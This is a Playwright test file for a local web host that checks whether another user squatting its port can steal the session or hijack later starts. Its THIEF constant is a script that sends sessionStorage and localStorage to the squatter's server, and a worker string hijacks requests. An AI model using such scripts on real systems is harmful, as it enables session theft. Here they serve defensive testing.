import { readFileSync } from 'node:fs';
import { expect, type Page } from 'playwright/test';
import { translator } from '#shared/i18n/translate.ts';
import { type AnotherUser, anotherUser, type Wanted } from '#test/support/another-user.ts';
import { NO_IPV6, NO_PROC } from '#test/support/why-skipped.ts';
import { startHost } from '../../../build/demo/start-host.ts';
import { test } from './fixture.ts';

const PAGE = '<!doctype html><p>theirs</p>';
/** Sends all that a page of this origin can read to whoever served it. */
const THIEF = `${PAGE}<script>
const found = JSON.stringify([location.href, { ...sessionStorage }, { ...localStorage }]);
fetch('/found', { method: 'POST', body: found });
</script>`;
/** A browser asks for `….localhost` at ::1 first, and these are all the ways to be there. */
const IPV6_WAYS: Readonly<Record<string, Wanted>> = {
  '::1': { host: '::1' },
  'every address of IPv6': { host: '::', ipv6Only: true },
  'every address of both': { host: '::' },
};

/** Their program at the host's port, answering in any way that helps them; null where they cannot have it. */
async function squat(wanted: Wanted, url: string): Promise<AnotherUser | null> {
  const port = Number(new URL(url).port);
  return anotherUser({ ...wanted, port, page: THIEF }).catch((error: unknown) => {
    expect(error).toMatchObject({ message: 'EADDRINUSE' });
    return null;
  });
}

async function showsOurs(page: Page): Promise<void> {
  await expect(page.getByRole('button').first()).toBeVisible();
  await expect(page.getByText('theirs')).toHaveCount(0);
}

/** What a window does while the port is wanted; each calls the host anew. */
const MOMENTS: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'before it is opened': async () => undefined,
  'while it is open, with its next presses': async (page) => {
    const statuses = await page.evaluate(async () => {
      const session = window.sessionStorage.getItem('session') ?? '';
      const headers = { 'content-type': 'application/json', 'x-intray': '1', 'x-intray-session': session };
      const call = async () => (await fetch('/rpc/info', { method: 'POST', headers, body: '{}' })).status;
      return Promise.all(Array.from({ length: 6 }, call));
    });
    expect(new Set(statuses)).toEqual(new Set([200]));
  },
  'before it is loaded again': (page) => page.reload(),
};

/** The window's stream stays open; what else the browser has open is closed after ten seconds, and calls on it never reach another program. */
async function newConnectionsNext(url: string): Promise<void> {
  const port = Number(new URL(url).port).toString(16).toUpperCase().padStart(4, '0');
  const established = new RegExp(String.raw`^ *\d+: [0-9A-F]+:${port} [0-9A-F:]+ 01 `, 'gm');
  const count = () =>
    ['/proc/net/tcp', '/proc/net/tcp6'].reduce((sum, file) => sum + (readFileSync(file, 'utf8').match(established)?.length ?? 0), 0);
  await expect.poll(count, { timeout: 60_000 }).toBeLessThan(2);
}

for (const [where, wanted] of Object.entries(IPV6_WAYS)) {
  for (const [when, go] of Object.entries(MOMENTS))
    test(`who wants the port of a running host on ${where} is told nothing of a window ${when}`, async ({ page, host }) => {
      const why = NO_IPV6 ?? NO_PROC;
      test.skip(why !== null, why ?? '');
      const early = when === 'before it is opened' ? await squat(wanted, host.url) : null;
      await page.goto(host.url);
      await showsOurs(page);
      const theirs = early ?? (await squat(wanted, host.url));
      try {
        if (when !== 'before it is opened') await newConnectionsNext(host.url);
        await go(page);
        await showsOurs(page);
        expect((await theirs?.heard()) ?? '').toBe('');
        expect(theirs).toBeNull();
      } finally {
        await theirs?.end();
      }
    });

  test(`a host that starts where another user has the port on ${where} opens no window, and starts as soon as they are gone`, async ({
    page,
    place,
    host,
  }) => {
    test.skip(NO_IPV6 !== null, NO_IPV6 ?? '');
    await page.goto(host.url);
    await showsOurs(page);
    const secret = (await page.evaluate(() => window.sessionStorage.getItem('session'))) ?? 'none';
    await host.program.stop();
    const theirs = await squat(wanted, host.url);
    const start = () => startHost(place.profile, { HOME: place.home, LC_ALL: 'fr_FR.UTF-8' }, new URL(host.url).port);
    await expect(start()).rejects.toThrow(/another program, maybe another user's, has it on/);
    // What the tab of the former start sends them is of no use at the next one.
    await page.reload();
    await theirs?.end();
    const again = await start();
    try {
      const answer = await page.request.post(`http://127.0.0.1:${new URL(again.url).port}/rpc/overview`, {
        headers: { host: new URL(again.url).host, 'x-intray': '1', 'x-intray-session': secret, origin: new URL(again.url).origin },
        data: {},
      });
      expect(answer.status()).toBe(401);
      await page.goto(again.url);
      await showsOurs(page);
    } finally {
      await again.program.stop();
    }
  });
}

test('a page of another user of this computer is told nothing that opens the window', async ({ page, context, host }) => {
  await page.goto(host.url);
  await expect(page.getByRole('button').first()).toBeVisible();
  const secret = await page.evaluate(() => window.sessionStorage.getItem('session'));
  expect(secret).toMatch(/^[\w-]{32}$/);
  const { hostname } = new URL(host.url);
  const theirs = await anotherUser({ page: PAGE });
  try {
    // By a link, under the computer's name, and even under the window's own name.
    for (const name of ['127.0.0.1', 'localhost', hostname]) await (await context.newPage()).goto(`http://${name}:${theirs.port}/`);
    const heard = await theirs.heard();
    expect(heard).not.toContain(secret ?? '');
    expect(heard.toLowerCase()).not.toContain('"cookie"');
    expect(await context.cookies()).toEqual([]);
  } finally {
    await theirs.end();
  }
});

test('who took the port while the host was down has no part in the next start', async ({ page, place, host }) => {
  await page.goto(host.url);
  await expect(page.getByRole('button').first()).toBeVisible();
  const { origin, port } = new URL(host.url);
  await host.program.stop();
  // A service worker that would answer in place of the host for ever, and read each address that is opened.
  const worker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => event.respondWith(new Response('${PAGE}', { headers: { 'content-type': 'text/html' } })));`;
  const theirs = await anotherUser({
    port: Number(port),
    page: PAGE,
    answers: { '/worker.js': { type: 'text/javascript', body: worker } },
  });
  try {
    for (const name of [origin, `http://127.0.0.1:${port}`, `http://localhost:${port}`]) {
      await page.goto(`${name}/`);
      await page.evaluate(async () => {
        await navigator.serviceWorker.register('/worker.js');
        await navigator.serviceWorker.ready;
      });
    }
  } finally {
    await theirs.end();
  }
  const again = await startHost(place.profile, { HOME: place.home, LC_ALL: 'fr_FR.UTF-8' }, port);
  try {
    await page.goto(again.url);
    await expect(page.getByRole('button').first()).toBeVisible();
    await expect(page.getByText('theirs')).toHaveCount(0);
    // At its own origin the worker still answers, but nobody is directed there any more.
    await page.goto(`${origin}/`);
    await expect(page.getByText('theirs')).toBeVisible();
  } finally {
    await again.program.stop();
  }
});

test('a window that is open while the host starts anew at its port says that it is not signed in', async ({ page, place, host }) => {
  await page.goto(host.url);
  await expect(page.getByRole('button').first()).toBeVisible();
  await host.program.stop();
  const again = await startHost(place.profile, { HOME: place.home, LC_ALL: 'fr_FR.UTF-8' }, new URL(host.url).port);
  try {
    await expect(page.getByText(translator('en')('link.sign-in.title'))).toBeVisible();
  } finally {
    await again.program.stop();
  }
});
